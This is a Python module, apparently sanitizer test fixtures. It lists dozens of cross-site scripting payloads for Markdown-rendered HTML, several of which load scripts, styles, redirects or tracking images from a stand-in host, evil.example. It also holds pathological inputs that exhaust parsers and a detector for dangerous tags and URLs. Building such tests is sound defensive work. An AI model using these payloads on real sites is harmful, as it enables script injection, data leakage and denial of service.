"""Texts of people who mean harm, by what they try, and a look at HTML for whatever in it would run or fetch."""

import re
from html.parser import HTMLParser

_RUN = frozenset({
    "applet", "audio", "base", "button", "embed", "form", "frame", "frameset", "iframe", "input", "link", "math",
    "meta", "object", "script", "style", "svg", "video",
})  # fmt: skip
_ADDRESSES = frozenset({"href", "src", "action", "data", "formaction", "xlink:href", "poster", "background"})
_SCHEMES = frozenset({"javascript", "vbscript", "data"})
_NOT_OF_A_SCHEME = re.compile(r"^[\0-\x20]+|[\t\n\r]")

# Each is live once Markdown has made HTML of it, until somebody takes the harm out.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler over lines": '<img\nsrc="/x"\nonerror="alert(1)">',
    "handler of a page": "<body onload=alert(1)>",
    "handler that opens": "<details open ontoggle=alert(1)>",
    "handler that moves": "<marquee onstart=alert(1)>",
    "handler in a heading": "# <img src=x onerror=alert(1)>",
    "handler in a list 40 deep": "".join(f"{'   ' * deep}- a\n" for deep in range(40))
    + "\n<img src=x onerror=alert(1)>",
    "script in a table": "| <script>alert(1)</script> |\n|---|\n| x |",
    "address: javascript": "<a href='javascript:alert(1)'>x</a>",
    "address: in Markdown": "[x](javascript:alert(1))",
    "address: mixed case": "[x](JaVaScRiPt:alert(1))",
    "address: by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "address: by itself": "<javascript://x.example/%0aalert(1)>",
    "address: vbscript": "[x](vbscript:msgbox(1))",
    "address: data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "address: of a form": "<form action=javascript:alert(1)><input name=q></form>",
    "address: of a button": "<button formaction=javascript:alert(1)>x</button>",
    "entity for a letter": '<a href="&#106;avascript:alert(1)">x</a>',
    "entity in Markdown": "[x](&#x6A;avascript:alert(1))",
    "entity without its end": '<a href="&#0000106avascript:alert(1)">x</a>',
    "entity for the colon": '<a href="javascript&colon;alert(1)">x</a>',
    "entity for a tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "sign before an address": '<a href="\x01javascript:alert(1)">x</a>',
    "style": "<style>body{display:none}</style>",
    "style from elsewhere": "<style>@import '//evil.example/x.css';</style>",
    "style on a word": "<p style='position:fixed;inset:0'>x</p>",
    "style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "drawing that loads": "<svg onload=alert(1)>",
    "drawing with a script": "<svg><script>alert(1)</script></svg>",
    "drawing that moves": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "drawing with a link": '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "drawing with a page": "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "drawing as a picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "formula that changes its mind": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame with a page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "objects": "<object data=x.swf></object><embed src=x.swf>",
    "object of data": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "form": "<form action=//evil.example><input name=q></form>",
    "other base": "<base href=//evil.example>",
    "sent away": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "picture from elsewhere": "![x](https://evil.example/beacon.png)",
    "picture without a scheme": '<img src="//evil.example/beacon.png" alt="">',
}
# Each takes some part of a program much longer than its length, unless that part is told when to stop.
HEAVY = {
    "brackets": "[" * 20_000,
    "links in links": "[" * 5_000 + "](a)" * 5_000,
    "pictures": "![" * 10_000,
    "stars": "*" * 20_000,
    "stars and words": "*a **b " * 3_000,
    "lines under words": "_" * 20_000,
    "backticks": "`" * 30_000,
    "backticks apart": "x` `` " * 4_000,
    "fences": "```\n" * 10_000,
    "quotations": "> " * 5_000,
    "steps on one line": "1. " * 5_000,
    "lists 500 deep": "".join(f"{'   ' * deep}- a\n" for deep in range(500)),
    "steps 300 deep": "".join(f"{'   ' * deep}1. a\n" for deep in range(300)),
    "tags": "<div>" * 39_000,
    "tags never closed": "<a " * 20_000,
    "comments never closed": "<!--" * 20_000,
    "entities": "&#" * 20_000,
    "cells": "|" * 20_000 + "\n" + "|-" * 20_000 + "|\n",
    "references": "".join(f"[{number}]: /a\n" for number in range(10_000)),
    "one long word": "a" * 190_000,
    "signs of words": "X_" * 90_000,
    "addresses never ended": "a." * 90_000,
    "heading with spaces": f"# a{' ' * 180_000}b",
    "heading with signs": f"# a{' #' * 90_000}b",
    "tokens never ended": "eyJ-" * 45_000,
    "templates never ended": "<%" * 90_000,
    "links within": "[a](/runbooks/b)\n" * 10_000,
    "empty lines": "\n" * 180_000,
}


def dangers(html: str) -> list[str]:
    """What in this HTML a browser would run, fetch from elsewhere or obey."""
    look = _Look()
    look.feed(html)
    look.close()
    return look.found


class _Look(HTMLParser):
    """Notes elements that run or fetch, handlers, styles, and addresses as a browser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _RUN:
            self.found.append(tag)
        for name, value in attrs:
            address = _NOT_OF_A_SCHEME.sub("", value or "")
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}")
            if name in _ADDRESSES and address.partition(":")[0].casefold() in _SCHEMES:
                self.found.append(f"{tag} {name}={address[:40]}")
            if tag == "img" and name == "src" and not re.match(r"/[^/\\]", address):
                self.found.append(f"fetches {address[:40]}")
